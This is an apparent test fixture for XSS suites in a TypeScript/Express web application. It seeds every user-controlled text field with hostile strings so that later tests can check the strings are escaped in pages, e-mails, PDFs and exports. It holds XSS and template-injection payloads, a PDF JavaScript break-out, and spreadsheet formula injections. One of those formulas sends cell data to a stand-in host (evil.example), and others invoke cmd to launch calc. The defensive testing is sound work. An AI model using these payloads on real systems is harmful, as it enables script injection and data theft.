import { expect } from "chai";
import type { Express } from "express";
import request from "supertest";
import { TrainingSession, type Role, type User } from "../../server/models/index.js";
import {
  applicationPayload,
  createDraft,
  idempotencyKey,
  pdfFile,
  seededCall,
  submitRequest,
  uploadDocument,
  type ApplicationBody,
  type DocumentBody,
} from "../factories/applications.js";
import { companyPayload, createCompany, type CompanyBody } from "../factories/companies.js";
import {
  claimOf,
  claimRequest,
  fileInStatus,
  invoicePayload,
  payRequest,
  postRequest,
  transition,
  uploadClaimDocuments,
  verifyRequest,
  type Player,
} from "../factories/review.js";
import {
  enrolDirectly,
  enrolThroughApi,
  issueCertificates,
  recordResultThroughApi,
  sessionPayload,
  SIGN_IN_AT,
  type CertificateBody,
  type EnrolmentBody,
  type SessionBody,
} from "../factories/training.js";
import { createUser, TEST_PASSWORD, uniqueEmail, type UserFactoryOptions } from "../factories/users.js";
import { API, signIn } from "../helpers/auth.js";
import type { FixedClock } from "../helpers/testApp.js";
import { TEST_NOW } from "../helpers/testDatabase.js";

/**
 * Hostile text for the XSS suites (xss.test.ts, xss-browser.test.ts): what a user could type in any
 * free-text field. Each payload must come back exactly as typed, as text, wherever it is shown:
 * web pages, e-mails (HTML and text parts), PDFs, exports.
 */

export interface Payload {
  /** A short name for failure messages. */
  name: string;
  text: string;
}

export const PAYLOADS: readonly Payload[] = [
  { name: "script element", text: "<script>alert(1)</script>" },
  { name: "attribute break-out to img onerror", text: `"><img src=x onerror=alert(2)>` },
  { name: "single-quote break-out to svg onload", text: "'><svg onload=alert(3)>" },
  { name: "title break-out", text: "</title><svg onload=alert(4)>" },
  { name: "javascript: URL", text: "javascript:alert(5)//" },
  { name: "link to a javascript: URL", text: `<a href="javascript:alert(6)">lien</a>` },
  { name: "iframe", text: `<iframe src="javascript:alert(7)"></iframe>` },
  { name: "details ontoggle", text: "<details open ontoggle=alert(8)>" },
  { name: "template expressions", text: "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}" },
  { name: "server template placeholders", text: "{{body}}{{{publicUrl}}}{{subject}}" },
  { name: "Angular-style sandbox escape", text: "{{constructor.constructor('alert(11)')()}}" },
  { name: "already-escaped entities", text: "&lt;b&gt;gras&lt;/b&gt; &amp; &#60;i&#62;" },
  { name: "style break-out", text: "</style><style>*{display:none}</style>" },
  { name: "comment and CDATA break-out", text: "--><!-- ]]><x-y>" },
  { name: "Arabic with direction overrides", text: "شركة \u202Egnp.exe\u202C <b>عربي</b> \u2067ل\u2069" },
  { name: "PDF string break-out", text: ") Tj /OpenAction << /S /JavaScript /JS (app.alert(16)) >> (" },
];

/** Formula-looking cells, for CSV and spreadsheet exports. */
export const CSV_INJECTIONS: readonly string[] = [
  `=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")`,
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
];

/**
 * The payloads joined by a space, starting at `offset`, as many as fit in `maxLength` characters
 * (at least one): a short field carries one or two, a long description carries them all. Different
 * offsets give different fields different payloads.
 */
export function hostile(offset: number, maxLength: number): string {
  const parts: string[] = [];
  let length = 0;
  for (let index = 0; index < PAYLOADS.length; index += 1) {
    const payload = PAYLOADS[(offset + index) % PAYLOADS.length];
    if (!payload) continue;
    const added = (parts.length === 0 ? 0 : 1) + payload.text.length;
    if (parts.length > 0 && length + added > maxLength) break;
    parts.push(payload.text);
    length += added;
  }
  return parts.join(" ");
}

/** Every payload, for the fields long enough to take them all (descriptions, comments). */
export const ALL_PAYLOADS = PAYLOADS.map((payload) => payload.text).join(" ");

/** Collapses runs of white space (line breaks, wrapping) into one space, as a reader sees text. */
export function normaliseSpace(text: string): string {
  return text.replace(/\s+/g, " ").trim();
}

// ——— A world where every free-text field a user controls holds payloads ———

/** What the world was given, by field: each value must come back literally wherever it is shown. */
export interface PoisonedFields {
  ownerName: string;
  prescriberName: string;
  prescriberOrganisation: string;
  prescriberRegistrationNumber: string;
  officerAName: string;
  officerBName: string;
  adminName: string;
  trainerName: string;
  companyName: string;
  companyRcNumber: string;
  companyRcCourt: string;
  companyCity: string;
  companyAddress: string;
  clientCompanyName: string;
  clientManagerName: string;
  otherCompanyName: string;
  description: string;
  lineLabel: string;
  secondLineLabel: string;
  documentName: string;
  secondDocumentName: string;
  documentVerdictReason: string;
  infoRequest: string;
  examinationComment: string;
  rejectionReason: string;
  approvalComment: string;
  invoiceNumber: string;
  supplierName: string;
  paymentReference: string;
  cancellationReason: string;
  conflictReason: string;
  sessionTitle: string;
  sessionDescription: string;
  sessionCity: string;
  sessionVenue: string;
  revocationReason: string;
}

export const POISON: PoisonedFields = {
  ownerName: hostile(0, 120),
  prescriberName: hostile(1, 120),
  prescriberOrganisation: hostile(2, 200),
  prescriberRegistrationNumber: hostile(4, 50),
  officerAName: hostile(3, 120),
  officerBName: hostile(5, 120),
  adminName: hostile(6, 120),
  trainerName: hostile(7, 120),
  companyName: hostile(8, 200),
  companyRcNumber: hostile(4, 30),
  companyRcCourt: hostile(9, 80),
  companyCity: hostile(10, 80),
  companyAddress: hostile(11, 300),
  clientCompanyName: hostile(12, 200),
  clientManagerName: hostile(13, 120),
  otherCompanyName: hostile(14, 200),
  description: ALL_PAYLOADS,
  lineLabel: hostile(15, 200),
  secondLineLabel: hostile(1, 200),
  documentName: "<img src=x onerror=alert(1)>.pdf",
  secondDocumentName: "{{7*7}} ${7*7} <svg onload=alert(1)>.pdf",
  documentVerdictReason: ALL_PAYLOADS,
  infoRequest: ALL_PAYLOADS,
  examinationComment: ALL_PAYLOADS,
  rejectionReason: ALL_PAYLOADS,
  approvalComment: ALL_PAYLOADS,
  invoiceNumber: hostile(2, 60),
  supplierName: hostile(3, 200),
  paymentReference: hostile(5, 60),
  cancellationReason: ALL_PAYLOADS,
  conflictReason: ALL_PAYLOADS,
  sessionTitle: hostile(6, 200),
  sessionDescription: ALL_PAYLOADS,
  sessionCity: hostile(7, 100),
  sessionVenue: hostile(8, 300),
  revocationReason: hostile(9, 500),
};

export interface PoisonedWorld {
  owner: Player;
  prescriber: Player;
  officerA: Player;
  officerB: Player;
  admin: Player;
  trainer: Player;
  company: CompanyBody;
  clientCompany: CompanyBody;
  /** Rejected after a request for information: history, verdicts, comments. */
  rejected: ApplicationBody;
  /** Approved, claimed and paid: the claim's invoice and payment reference. */
  paid: ApplicationBody;
  /** Approved then cancelled by the admin. */
  cancelled: ApplicationBody;
  documents: DocumentBody[];
  session: SessionBody;
  /** The owner's certificate, revoked with a reason. */
  revoked: CertificateBody;
  /** One certificate per payload, the payload as the holder's name. */
  certificates: CertificateBody[];
  ownerEnrolment: EnrolmentBody;
}

interface WorldContext {
  app: Express;
  clock: FixedClock;
}

/**
 * Verified users signed in at SIGN_IN_AT, the end of the year: the world moves the clock across
 * the year, and a sign-in expires 12 hours later on that clock.
 */
async function poisonedPlayers(context: WorldContext, people: Array<[Role, UserFactoryOptions]>): Promise<Player[]> {
  const users: User[] = [];
  for (const [role, options] of people) users.push(await createUser({ role, ...options }));
  const before = context.clock.now();
  context.clock.set(SIGN_IN_AT);
  try {
    return await Promise.all(
      users.map(async (user) => ({ user, session: await signIn(context.app, user.email, TEST_PASSWORD) })),
    );
  } finally {
    context.clock.set(before);
  }
}

async function expectCreated<T>(response: { status: number; text: string; body: unknown }): Promise<T> {
  expect(response.status, response.text).to.equal(201);
  return response.body as T;
}

/**
 * Builds, through the API wherever one exists, a world whose every free-text field holds payloads:
 * people, companies, a client company and its invited manager, a mandate, three applications
 * walked to rejected, paid and cancelled (with documents, verdicts, comments, a claim), a conflict
 * of interest, a course session with enrolments, certificates (one per payload as holder name) and
 * a revocation. Every e-mail these steps send is left in the outbox, delivered by the caller.
 */
export async function buildPoisonedWorld(context: WorldContext): Promise<PoisonedWorld> {
  const P = POISON;
  context.clock.set(TEST_NOW);
  const players = await poisonedPlayers(context, [
    ["applicant", { fullName: P.ownerName }],
    [
      "prescriber",
      {
        fullName: P.prescriberName,
        prescriber: {
          kind: "accountant",
          registrationNumber: P.prescriberRegistrationNumber,
          organisation: P.prescriberOrganisation,
        },
      },
    ],
    ["officer", { fullName: P.officerAName }],
    ["officer", { fullName: P.officerBName }],
    ["admin", { fullName: P.adminName }],
    ["trainer", { fullName: P.trainerName }],
  ]);
  const [owner, prescriber, officerA, officerB, admin, trainer] = players;
  if (!owner || !prescriber || !officerA || !officerB || !admin || !trainer) throw new Error("a player is missing");
  const call = await seededCall();

  // Accounts made through the API: a prescriber's registration (verify-email), a staff account
  // created by the admin (account-setup), each with hostile names.
  const registrar = request.agent(context.app);
  const csrf = await registrar.get(`${API}/auth/csrf`);
  await expectCreated(
    await registrar
      .post(`${API}/auth/register`)
      .set("X-CSRF-Token", (csrf.body as { csrfToken: string }).csrfToken)
      .send({
        email: uniqueEmail("inscription"),
        password: TEST_PASSWORD,
        fullName: P.prescriberName,
        role: "prescriber",
        locale: "fr",
        prescriber: {
          kind: "association",
          registrationNumber: P.prescriberRegistrationNumber,
          organisation: P.prescriberOrganisation,
        },
      }),
  );
  await expectCreated(
    await postRequest(admin.session, "/users", {
      email: uniqueEmail("formateur"),
      fullName: P.trainerName,
      role: "trainer",
      locale: "ar",
    }),
  );

  // Companies: the owner's (every profile field), a client registered by the prescriber (invitation).
  const company = await expectCreated<CompanyBody>(
    await postRequest(
      owner.session,
      "/companies",
      companyPayload({
        name: P.companyName,
        rcNumber: P.companyRcNumber,
        rcCourt: P.companyRcCourt,
        city: P.companyCity,
        address: P.companyAddress,
      }),
    ),
  );
  await expectCreated(
    await postRequest(owner.session, `/companies/${company.id}/mandates`, { prescriberEmail: prescriber.user.email }),
  );
  const clientCompany = await expectCreated<CompanyBody>(
    await postRequest(
      prescriber.session,
      "/companies",
      companyPayload({
        name: P.clientCompanyName,
        managerName: P.clientManagerName,
        managerEmail: uniqueEmail("dirigeant-client"),
      }),
    ),
  );
  await expectCreated(
    await postRequest(officerA.session, "/conflicts", { companyId: clientCompany.id, reason: P.conflictReason }),
  );

  // 1. Rejected after a request for information.
  const draft = await createDraft(
    owner.session,
    applicationPayload(company.id, call.id, {
      description: P.description,
      lines: [
        { category: "software", label: P.lineLabel, amountExclTax: "100000.00", vatRate: "0.20" },
        { category: "services", label: P.secondLineLabel, amountExclTax: "5000.00", vatRate: "0.20" },
      ],
    }),
  );
  const documents = [
    await uploadDocument(owner.session, draft.id, "quote", pdfFile(P.documentName, "quote")),
    await uploadDocument(owner.session, draft.id, "sworn_declaration", pdfFile(P.secondDocumentName, "dsh")),
  ];
  expect((await submitRequest(owner.session, draft.id)).status).to.equal(200);
  await transition(officerA.session, draft.id, "start-review", "in_review");
  const verdict = await postRequest(
    officerA.session,
    `/applications/${draft.id}/documents/${documents[0]?.id}/verdict`,
    {
      verdict: "rejected",
      reason: P.documentVerdictReason,
    },
  );
  expect(verdict.status, verdict.text).to.equal(200);
  await transition(officerA.session, draft.id, "request-info", "info_requested", { message: P.infoRequest });
  const resubmit = await submitRequest(owner.session, draft.id, idempotencyKey("resubmit"));
  expect(resubmit.status, resubmit.text).to.equal(200);
  await transition(officerA.session, draft.id, "start-review", "in_review");
  await transition(officerA.session, draft.id, "examine", "examined", {
    proposal: "reject",
    comment: P.examinationComment,
  });
  await transition(officerB.session, draft.id, "reject", "rejected", { reason: P.rejectionReason });

  // 2. Approved with a comment, claimed (invoice number, supplier), paid (payment reference).
  const cast = { owner, officerA, officerB, admin };
  const paidCompany = await createCompany({ owner: owner.user, name: P.otherCompanyName });
  const approved = await fileInStatus(cast, "examined", { company: paidCompany, callId: call.id });
  await transition(officerB.session, approved.id, "approve", "approved", { comment: P.approvalComment });
  const claimDocuments = await uploadClaimDocuments(owner.session, approved.id);
  const invoice = claimDocuments.invoices[0];
  if (!invoice) throw new Error("no invoice uploaded");
  const claim = await claimRequest(owner.session, approved.id, [
    { ...invoicePayload(invoice, "100000.00"), invoiceNumber: P.invoiceNumber, supplierName: P.supplierName },
  ]);
  expect(claim.status, claim.text).to.equal(201);
  const claimBody = await claimOf(officerB.session, approved.id);
  const verified = await verifyRequest(
    officerB.session,
    claimBody.id,
    claimBody.invoices.map((line) => ({ id: line.id, verdict: "accepted" as const })),
  );
  expect(verified.status, verified.text).to.equal(200);
  const paid = await payRequest(officerB.session, claimBody.id, P.paymentReference);
  expect(paid.status, paid.text).to.equal(200);

  // 3. Approved, then cancelled by the admin with a reason.
  const cancelledCompany = await createCompany({ owner: owner.user, name: P.companyName });
  const toCancel = await fileInStatus(cast, "approved", { company: cancelledCompany, callId: call.id });
  await transition(admin.session, toCancel.id, "cancel", "cancelled", { reason: P.cancellationReason });

  // Permis Numérique: a session with every text field, the owner and the client's manager enrolled.
  const session = await expectCreated<SessionBody>(
    await postRequest(
      trainer.session,
      "/training/sessions",
      sessionPayload(context.clock.now(), {
        title: P.sessionTitle,
        description: P.sessionDescription,
        city: P.sessionCity,
        venue: P.sessionVenue,
        capacity: 100,
      }),
    ),
  );
  const ownerEnrolment = await enrolThroughApi(owner.session, session.id, { companyId: company.id });
  const clientEnrolment = await enrolThroughApi(prescriber.session, session.id, { companyId: clientCompany.id });
  const sessionRow = await TrainingSession.findByPk(session.id);
  if (!sessionRow) throw new Error("the session vanished");
  for (const [index, payload] of PAYLOADS.entries()) {
    await enrolDirectly(
      sessionRow,
      { name: payload.text, email: `titulaire-${index}-${uniqueEmail("xss")}` },
      "passed",
    );
  }
  context.clock.set(new Date(sessionRow.startsAt.getTime() + 2 * 60 * 60 * 1000));
  await recordResultThroughApi(trainer.session, ownerEnrolment.id, true, 90);
  await recordResultThroughApi(trainer.session, clientEnrolment.id, true, 85);
  await issueCertificates(trainer.session, session.id, context.clock);
  const list = await owner.session.agent.get(`${API}/certificates?pageSize=100`);
  expect(list.status, list.text).to.equal(200);
  const ownCertificate = (list.body as { items: CertificateBody[] }).items[0];
  if (!ownCertificate) throw new Error("the owner got no certificate");
  const revoked = await postRequest(admin.session, `/certificates/${ownCertificate.id}/revoke`, {
    reason: P.revocationReason,
  });
  expect(revoked.status, revoked.text).to.equal(200);
  const all = await admin.session.agent.get(`${API}/certificates?pageSize=100&sessionId=${session.id}`);
  expect(all.status, all.text).to.equal(200);
  context.clock.set(TEST_NOW);

  const read = async (id: string) => {
    const response = await owner.session.agent.get(`${API}/applications/${id}`);
    expect(response.status, response.text).to.equal(200);
    return response.body as ApplicationBody;
  };
  return {
    owner,
    prescriber,
    officerA,
    officerB,
    admin,
    trainer,
    company,
    clientCompany,
    rejected: await read(draft.id),
    paid: await read(approved.id),
    cancelled: await read(toCancel.id),
    documents,
    session,
    revoked: revoked.body as CertificateBody,
    certificates: (all.body as { items: CertificateBody[] }).items,
    ownerEnrolment,
  };
}
